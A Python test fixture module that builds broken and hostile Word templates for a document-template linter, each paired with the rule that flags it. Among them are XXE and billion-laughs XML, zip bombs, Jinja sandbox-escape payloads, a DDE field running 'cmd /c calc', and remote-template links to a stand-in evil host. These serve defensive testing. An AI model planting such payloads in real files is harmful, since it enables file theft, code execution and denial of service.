"""Broken and hostile Word templates, each with the rule of the lint that names it and the words it points at."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from tests.support.files.templates import (
    styles,
    table,
    template,
    with_margins,
    with_part,
    with_relation,
)
from tests.support.files.word import edited, packed, unpacked
from tests.support.files.word_by_hand import field, para, part, run

MEGABYTE = 1024**2
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"  # with which old Word files and encrypted ones begin
_BILLION = '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
_OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


@dataclass(frozen=True)
class Faulty:
    """A template with one fault: the rule that names it, and the words at its place."""

    rule: str
    words: str
    make: Callable[[], bytes]


def _of(rule: str, words: str, *content: str, **options: object) -> Faulty:
    return Faulty(rule, words, lambda: template(*content, **options))  # type: ignore[arg-type]


def _body(old: str, new: str) -> bytes:
    return edited(template("Isi surat."), "word/document.xml", old, new)


def text_box(*paragraphs: str) -> str:
    """A paragraph with a text box, in the two forms in which Word writes it."""
    inside = f"<w:txbxContent>{''.join(paragraphs)}</w:txbxContent>"
    return (
        f'<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:inline><a:graphic><a:graphicData>'
        f"<wps:wsp><wps:txbx>{inside}</wps:txbx></wps:wsp></a:graphicData></a:graphic></wp:inline></w:drawing></mc:Choice>"
        f"<mc:Fallback><w:pict>{inside}</w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>"
    )


def _control(*paragraphs: str) -> str:
    return f"<w:sdt><w:sdtContent>{''.join(paragraphs)}</w:sdtContent></w:sdt>"


def _drawn(attribute: str) -> str:
    """A picture that is a relation."""
    picture = (
        f'<w:drawing><wp:inline><a:graphic><a:graphicData><a:blip r:{attribute}="rId99"/></a:graphicData></a:graphic>'
    )
    return para(run("Gambar: "), f"<w:r>{picture}</wp:inline></w:drawing></w:r>")


def _header(text: str) -> dict[str, str]:
    return {"word/header1.xml": part("hdr", para(text))}


def _note(text: str) -> dict[str, str]:
    return {"word/footnotes.xml": part("footnotes", f'<w:footnote w:id="2">{para(text)}</w:footnote>')}


def _changed(mark: str, text: str) -> str:
    return f'<w:{mark} w:id="7" w:author="A" w:date="2026-01-01T00:00:00Z">{text}</w:{mark}>'


def _settings(*elements: str) -> dict[str, str]:
    return {"word/settings.xml": part("settings", "".join(elements))}


def _many_parts(count: int) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        for name, data in unpacked(template("Isi surat.")).items():
            package.writestr(name, data)
        for number in range(count):
            package.writestr(f"word/x{number}", b"")
    return target.getvalue()


def _swollen(megabytes: int, name: str = "word/media/image1.png") -> bytes:
    """A part of zeros, which packs to nearly nothing."""
    return with_part(template("Isi surat."), name, bytes(megabytes * MEGABYTE))


def _lying_directory() -> bytes:
    """A zip whose own list says that it is many megabytes long."""
    docx = template("Isi surat.")
    end = docx.rindex(b"PK\x05\x06")
    return docx[: end + 12] + struct.pack("<I", 64 * MEGABYTE) + docx[end + 16 :]


def _odt() -> bytes:
    return packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"})


def _macro_enabled() -> bytes:
    docx = with_relation(template("Isi surat."), "vbaProject", "vbaProject.bin")
    docx = with_part(docx, "word/vbaProject.bin", CFB)
    return edited(
        docx,
        "[Content_Types].xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )


def _relation_of(*content: str, kind: str, target: str, outside: bool = False) -> bytes:
    return with_relation(template(*content), kind, target, outside=outside)


_LOOP = "{% for satu in tugas %}"
_STYLE = '<w:style w:type="paragraph" w:styleId="G{0}"><w:name w:val="Gaya {0}"/></w:style>'
_BEAUTIFUL = '<w:style w:styleId="Indah"><w:rPr><w:rFonts w:ascii="Monotype Corsiva"/></w:rPr></w:style>'
_HIDDEN = (
    '<w:style w:type="character" w:styleId="Sembunyi"><w:name w:val="Sembunyi"/><w:rPr><w:vanish/></w:rPr></w:style>'
)

# Files that are no templates at all.
REFUSED: Mapping[str, Faulty] = {
    "empty": Faulty("empty_file", "", lambda: b""),
    "old Word": Faulty("old_word", "", lambda: CFB + bytes(2000)),
    "password": Faulty("password", "", lambda: CFB + bytes(500) + "EncryptedPackage".encode("utf-16-le") + bytes(500)),
    "PDF": Faulty("pdf_file", "", lambda: b"%PDF-1.7\n%%EOF"),
    "LibreOffice": Faulty("odt_file", "", _odt),
    "text": Faulty("not_word", "", lambda: b"Yth. Kepala Dinas"),
    "HTML": Faulty("not_word", "", lambda: b"<html><body>Surat</body></html>"),
    "spreadsheet": Faulty(
        "not_word", "", lambda: packed({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"})
    ),
    "other zip": Faulty("not_word", "", lambda: packed({"surat.txt": b"Surat"})),
    "half a file": Faulty("truncated", "", lambda: template("Isi surat.")[:900]),
    "damaged part": Faulty("truncated", "", lambda: _damaged()),
    "last byte lost": Faulty("truncated", "", lambda: template("Isi surat.")[:-1]),
    "zip bomb": Faulty("too_big", "", lambda: _swollen(300)),
    "XML bomb": Faulty("too_big", "", lambda: _swollen(20, "word/settings.xml")),
    "elements without end": Faulty(
        "too_big", "", lambda: _body("Isi surat.", "</w:t>" + "<w:br/>" * 700_000 + "<w:t>")
    ),
    "braces without end": Faulty("too_big", "", lambda: template("{" * 200_000)),
    "many parts": Faulty("many_parts", "", lambda: _many_parts(5000)),
    "100,000 parts": Faulty("many_parts", "", lambda: _many_parts(100_000)),
    "directory of 64 MB": Faulty("many_parts", "", _lying_directory),
    "billion laughs": Faulty("xml_entities", "", lambda: _body("<w:document", f"{_BILLION}<w:document")),
    "external entity": Faulty("xml_entities", "", lambda: _body("<w:document", f"{_OUTSIDE}<w:document")),
    "entity in the types": Faulty(
        "xml_entities", "", lambda: edited(template("Isi"), "[Content_Types].xml", "<Types", f"{_OUTSIDE}<Types")
    ),
    "entity in relations": Faulty(
        "xml_entities",
        "",
        lambda: edited(template("Isi"), "word/_rels/document.xml.rels", "<Relationships", f"{_OUTSIDE}<Relationships"),
    ),
    "broken XML": Faulty("broken_xml", "", lambda: _body("</w:body>", "</w:bodi>")),
    "nested without end": Faulty("broken_xml", "", lambda: _body("Isi surat.", "<w:r>" * 5000)),
    "no document": Faulty("not_word", "", lambda: _without("word/document.xml")),
}

# Templates with one fault.
FAULTS: Mapping[str, Faulty] = {
    "no end": _of("unclosed_tag", "{{ uraian", "Isi {{ uraian"),
    "one brace at the end": _of("unclosed_tag", "{{ hal }, dan lain-lain.", "Isi {{ hal }, dan lain-lain."),
    "a statement without end": _of("unclosed_tag", "{% if hal", "{% if hal", "{% if hal %}x{% endif %}"),
    "no begin": _of("unopened_tag", "Isi hal }}", "Isi hal }}"),
    "cut by a paragraph": _of("split_tag", "{{", "Isi {{", "uraian }} lagi"),
    "in a text box": _of("unclosed_tag", "{{ hal", text_box(para("Kotak {{ hal"))),
    "in a content control": _of("unclosed_tag", "{{ hal", _control(para("Kontrol {{ hal"))),
    "in a header": _of("unclosed_tag", "{{ hal", "Isi", parts=_header("Kepala {{ hal")),
    "in a nested table": _of(
        "unclosed_tag", "{{ hal", f"<w:tbl><w:tr><w:tc>{table(('Sel {{ hal',))}{para()}</w:tc></w:tr></w:tbl>"
    ),
    "over three runs": _of("unknown_name", "{{ hall }}", para("Isi {", "{ ha", "ll }} lagi")),
    "apart": _of("spaced_braces", "{ { hal } }", "Isi { { hal } } lagi"),
    "single braces": _of("single_braces", "{hal}", "Isi {hal} lagi"),
    "curved quotes": _of("curved_quotes", "{{ hal|replace(“a”, “b”) }}", "Isi {{ hal|replace(“a”, “b”) }}"),
    "a dash for a minus": _of("unreadable_tag", "{{ hal – 1 }}", "Isi {{ hal – 1 }}"),
    "two names": _of("unreadable_tag", "{{ hal uraian }}", "Isi {{ hal uraian }}"),
    "nothing": _of("unreadable_tag", "{{ }}", "Isi {{ }}"),
    "a second else": _of("unreadable_tag", "{% else %}", "{% if hal %}a{% else %}b{% else %}c{% endif %}"),
    "unknown statement": _of("unknown_statement", "{% ulangi hal %}", "Isi {% ulangi hal %}"),
    "unknown filter": _of("unknown_filter", "{{ hal|besar }}", "Isi {{ hal|besar }}"),
    "unknown test": _of("unknown_filter", "{% if hal is kosong %}", "{% if hal is kosong %}x{% endif %}"),
    "unknown name": _of("unknown_name", "{{ uraiann }}", "Isi {{ uraiann }}"),
    "a capital": _of("unknown_name", "{{ Hal }}", "Isi {{ Hal }}"),
    "unknown part of the office": _of("unknown_name", "{{ kantor.alamatt }}", "Isi {{ kantor.alamatt }}"),
    "unknown column": _of("unknown_name", "{{ b.nma }}", "{% for b in barang %}{{ b.nma }}{% endfor %}"),
    "unknown in a note": _of(
        "unknown_name",
        "{{ halaman }}",
        para("Isi", '<w:r><w:footnoteReference w:id="2"/></w:r>'),
        parts=_note("Catatan {{ halaman }}"),
    ),
    "name of the register, misspelled": _of("unknown_name", "{{ nomer }}", "Isi {{ nomer }}"),
    "part of a list": _of("element_of_list", "{{ barang.nama }}", "Isi {{ barang.nama }}"),
    "part of a text": _of("element_of_text", "{{ hal.nama }}", "Isi {{ hal.nama }}"),
    "a whole list": _of("prints_list", "{{ tugas }}", "Isi {{ tugas }}"),
    "a whole official": _of("prints_list", "{{ penandatangan }}", "Isi {{ penandatangan }}"),
    "class of a text": _of("unsafe_tag", "{{ ''.__class__.__mro__ }}", "Isi {{ ''.__class__.__mro__ }}"),
    "class in brackets": _of("unsafe_tag", "{{ hal['__class__'] }}", "Isi {{ hal['__class__'] }}"),
    "attr filter": _of("unknown_filter", "{{ hal|attr('nama') }}", "Isi {{ hal|attr('nama') }}"),
    "map of an attribute": _of(
        "unsafe_tag", "{{ tugas|map(attribute='__class__')|join }}", "Isi {{ tugas|map(attribute='__class__')|join }}"
    ),
    "format string": _of("unsafe_tag", "{{ '{0.a}'.format(hal) }}", "Isi {{ '{0.a}'.format(hal) }}"),
    "globals": _of("unsafe_tag", "{{ cycler.__init__.__globals__ }}", "Isi {{ cycler.__init__.__globals__ }}"),
    "power": _of("unsafe_tag", "{{ 9**9**9 }}", "Isi {{ 9**9**9 }}"),
    "long text": _of("unsafe_tag", "{{ 'a' * 1000000000 }}", "Isi {{ 'a' * 1000000000 }}"),
    "endless loop": _of("unsafe_tag", "{% for a in range(99999999) %}", "{% for a in range(99999999) %}x{% endfor %}"),
    "include": _of("refused_statement", "{% include '/etc/passwd' %}", "Isi {% include '/etc/passwd' %}"),
    "import": _of("refused_statement", "{% import 'a' as b %}", "Isi {% import 'a' as b %}"),
    "no escaping": _of("refused_statement", "{% autoescape false %}", "{% autoescape false %}x{% endautoescape %}"),
    "unknown shared part": _of("wrong_shared_part", "{%p bagian kop %}", "{%p bagian kop %}"),
    "shared part in a line": _of("wrong_shared_part", "{% bagian kop %}", "Isi {% bagian kop %}"),
    "unknown sentence": _of("wrong_shared_part", "{{ kalimat.penutup }}", "Isi {{ kalimat.penutup }}"),
    "loop without end": _of("unclosed_block", _LOOP, _LOOP, "{{ satu }}"),
    "end without loop": _of("unopened_block", "{% endfor %}", "Isi {% endfor %}"),
    "else without if": _of("unopened_block", "{% else %}", "Isi {% else %}"),
    "row tag outside of a table": _of(
        "outside_table", "{%tr for a in tugas %}", "{%tr for a in tugas %}", "{%tr endfor %}"
    ),
    "paragraph tag with text": _of("not_alone", "{%p if hal %}", "Isi: {%p if hal %}", "x", "{%p endif %}"),
    "row tag with text": _of(
        "not_alone",
        "{%tr for b in barang %}",
        table(("{%tr for b in barang %}", "Nama"), ("{{ b.nama }}", ""), ("{%tr endfor %}",)),
    ),
    "loop around paragraphs": _of("loop_around_paragraphs", _LOOP, _LOOP, "{{ satu }}", "{% endfor %}"),
    "loop around rows": _of(
        "loop_around_paragraphs",
        "{% for b in barang %}",
        table(("{% for b in barang %}{{ b.nama }}",), ("{% endfor %}",)),
    ),
    "loop from outside into a table": _of(
        "broken_block", "{%p for b in barang %}", "{%p for b in barang %}", table(("{{ b.nama }}{% endfor %}",))
    ),
    "macros": Faulty("macros", "", _macro_enabled),
    "macros in a plain file": Faulty(
        "macros", "", lambda: _relation_of("Isi", kind="vbaProject", target="vbaProject.bin")
    ),
    "OLE": Faulty(
        "embedded_object",
        "Tabel Excel",
        lambda: _relation_of(
            para(run("Tabel Excel"), '<w:r><w:object><w:control r:id="rId99"/></w:object></w:r>'),
            kind="oleObject",
            target="embeddings/oleObject1.bin",
        ),
    ),
    "ActiveX": Faulty(
        "embedded_object",
        "Tombol",
        lambda: _relation_of(
            para(run("Tombol"), '<w:r><w:object><w:control r:id="rId99"/></w:object></w:r>'),
            kind="control",
            target="activeX/activeX1.xml",
        ),
    ),
    "file inside": _of("embedded_document", "Hal {{ hal }}", '<w:altChunk r:id="rId99"/>'),
    "linked picture": Faulty(
        "external_content",
        "Gambar:",
        lambda: _relation_of(_drawn("link"), kind="image", target="http://jahat/a.png", outside=True),
    ),
    "picture of the disk": Faulty(
        "external_content",
        "Gambar:",
        lambda: _relation_of(_drawn("link"), kind="image", target="file:///etc/passwd", outside=True),
    ),
    "address that claims to be inside": Faulty(
        "external_content", "Gambar:", lambda: _relation_of(_drawn("embed"), kind="image", target="http://jahat/a.png")
    ),
    "template of the network": Faulty(
        "remote_template",
        "",
        lambda: _relation_of("Isi", kind="attachedTemplate", target="http://jahat/a.dotm", outside=True),
    ),
    "template of a share": Faulty(
        "remote_template",
        "",
        lambda: _relation_of("Isi", kind="attachedTemplate", target=r"file:///\\jahat\a.dotm", outside=True),
    ),
    "template of the author": Faulty(
        "attached_template",
        "",
        lambda: _relation_of("Isi", kind="attachedTemplate", target="file:///C:/Users/siti/Normal.dotm", outside=True),
    ),
    "mail merge": Faulty(
        "mail_merge",
        "",
        lambda: _relation_of("Isi", kind="mailMergeSource", target="file:///C:/data.xlsx", outside=True),
    ),
    "link": Faulty(
        "hyperlink",
        "laman",
        lambda: _relation_of(
            para(f'<w:hyperlink r:id="rId99">{run("laman")}</w:hyperlink>'),
            kind="hyperlink",
            target="https://tanahbumbukab.go.id",
            outside=True,
        ),
    ),
    "insertion": _of("tracked_changes", "Isi baru", para("Isi ", _changed("ins", run("baru")))),
    "deletion": _of("tracked_changes", "Isi", para("Isi", _changed("del", "<w:r><w:delText>lama</w:delText></w:r>"))),
    "comment": _of(
        "comments_left",
        "Isi",
        para("Isi", '<w:r><w:commentReference w:id="1"/></w:r>'),
        parts={
            "word/comments.xml": part("comments", f'<w:comment w:id="1" w:author="A">{para("Periksa")}</w:comment>')
        },
    ),
    "hidden": _of("hidden_text", "rahasia", para("Isi ", run("rahasia", "<w:vanish/>"))),
    "hidden by a style": _of(
        "hidden_text", "rahasia", para("Isi ", run("rahasia", '<w:rStyle w:val="Sembunyi"/>')), parts=styles(_HIDDEN)
    ),
    "today": _of("refused_field", "Tanggal 1 Mei", para("Tanggal ", field('DATE \\@ "d MMMM"', "1 Mei"))),
    "time": _of("refused_field", "Pukul 10.00", para("Pukul ", field("TIME", "10.00"))),
    "mail merge field": _of("refused_field", "Yth. «Nama»", para("Yth. ", field("MERGEFIELD Nama", "«Nama»"))),
    "file name": _of("frozen_field", "surat.docx", para(field("FILENAME \\p", "surat.docx"))),
    "author": _of("frozen_field", "Siti", para(f'<w:fldSimple w:instr=" AUTHOR ">{run("Siti")}</w:fldSimple>')),
    "saved": _of("frozen_field", "1/5/26", para(field("SAVEDATE", "1/5/26"))),
    "fetched picture": _of("fetching_field", "gambar", para(field('INCLUDEPICTURE "http://jahat/a.png"', "gambar"))),
    "fetched text": _of("fetching_field", "isi", para(field('INCLUDETEXT "/etc/passwd"', "isi"))),
    "DDE": _of("fetching_field", "x", para(field("DDEAUTO cmd /c calc", "x"))),
    "protected": _of(
        "protected", "", "Isi", parts=_settings('<w:documentProtection w:edit="readOnly" w:enforcement="1"/>')
    ),
    "a font that is not there": _of(
        "missing_font", "Isi indah", para(run("Isi indah", '<w:rFonts w:ascii="Bookman Old Style"/>'))
    ),
    "a font of a style": _of(
        "missing_font",
        "Isi",
        para("Isi", look='<w:pStyle w:val="Indah"/>'),
        parts=styles(_BEAUTIFUL),
    ),
    "letter paper": Faulty(
        "odd_paper", "{{ penandatangan.nama }}", lambda: _body('w:w="11906" w:h="16838"', 'w:w="12240" w:h="15840"')
    ),
    "F4": Faulty(
        "other_paper", "{{ penandatangan.nama }}", lambda: _body('w:w="11906" w:h="16838"', 'w:w="12189" w:h="18709"')
    ),
    "narrow": Faulty(
        "margins",
        "{{ penandatangan.nama }}",
        lambda: with_margins(template("Isi"), right=567),
    ),
    "no room at the foot": Faulty(
        "stamp_room",
        "{{ penandatangan.nama }}",
        lambda: with_margins(template("Isi"), bottom=567),
    ),
    "unused styles": _of(
        "unused_styles", "Gaya 0, Gaya 1, Gaya 2", "Isi", parts=styles(*map(_STYLE.format, range(12)))
    ),
    "no number": _of("no_number", "", "Isi", head=para("Hal {{ hal }}")),
    "no signature": _of("no_signature", "", "Isi", foot=""),
    "no room for a signature": _of(
        "no_signature_room",
        "{{ penandatangan.nama }}",
        "Isi",
        foot=para("{{ penandatangan.jabatan }},") + para("{{ penandatangan.nama }}"),
    ),
    "a required field that is not printed": _of("unprinted_field", "hal", "Isi", head=para("Nomor {{ nomor }}")),
    "a division by zero": _of("cannot_be_filled", "", "Isi {{ 1 // (hal|length - hal|length) }}"),
}


def _damaged() -> bytes:
    """A sound list of parts, and a part whose bytes are others."""
    docx = bytearray(template("Isi surat."))
    at = docx.index(b"word/document.xml") + 60
    docx[at : at + 40] = bytes(40)
    return bytes(docx)


def _without(name: str) -> bytes:
    return packed({part: data for part, data in unpacked(template("Isi")).items() if part != name})
